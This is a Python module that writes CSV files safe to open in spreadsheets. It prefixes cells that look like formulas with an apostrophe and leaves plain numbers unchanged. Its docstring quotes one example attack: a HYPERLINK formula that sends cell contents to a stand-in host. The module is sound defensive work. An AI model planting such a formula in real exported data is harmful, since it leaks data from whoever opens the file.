"""CSV files that open safely in spreadsheets.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return) is read
by Excel, LibreOffice and Google Sheets as a formula: a billing name such as
``=HYPERLINK("https://evil.example?d="&A1)`` would run when the accountant opens the
file. Such cells are written with a leading apostrophe, which spreadsheets show as text.
Plain numbers (``-12,50``) are left alone so amounts stay numbers.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"^[+-]?\d+([.,]\d+)?$")


def safe_cell(value: Any) -> str:
    """Return the text of a cell, neutralised when a spreadsheet would read it as a formula.

    Args:
        value: Any cell value (``None`` becomes an empty cell).

    Returns:
        The cell's text, with a leading ``'`` when it would otherwise start a formula.
    """
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.match(text):
        return "'" + text
    return text


class SafeCsvWriter:
    """A ``csv.writer`` whose every cell goes through ``safe_cell``."""

    def __init__(self, out, **options: Any) -> None:
        """Write to ``out`` with the ``csv.writer`` options given (delimiter, line ending…)."""
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> None:
        """Write one row."""
        self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        """Write several rows."""
        for row in rows:
            self.writerow(row)
